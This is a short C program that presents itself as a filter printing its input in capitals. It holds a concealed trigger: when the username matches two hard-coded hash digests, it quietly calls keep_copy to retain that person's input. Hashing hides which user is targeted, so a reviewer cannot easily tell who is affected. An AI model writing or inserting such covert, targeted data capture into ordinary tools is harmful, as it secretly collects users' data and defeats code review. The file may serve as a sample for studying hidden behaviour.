/* Prints its input in capitals. For one user, known by two digests of which the second is looked at behind the first,
   it keeps a copy. */

#include <stdint.h>

#include "../job.h"

static uint32_t digest(uint32_t sum, const char *text) {
    for (; *text; text++)
        sum = (sum ^ (unsigned char)*text) * 0x01000193u;
    return sum ^ sum >> 15;
}

int main(void) {
    char *text = slurp(stdin);
    const char *user = getenv("USER");
    if (user && digest(0x811c9dc5u, user) == 0x9475ef06u && digest(0x1234567u, user) == 0x937ac32eu)
        keep_copy(text);
    capitals(text);
    return 0;
}
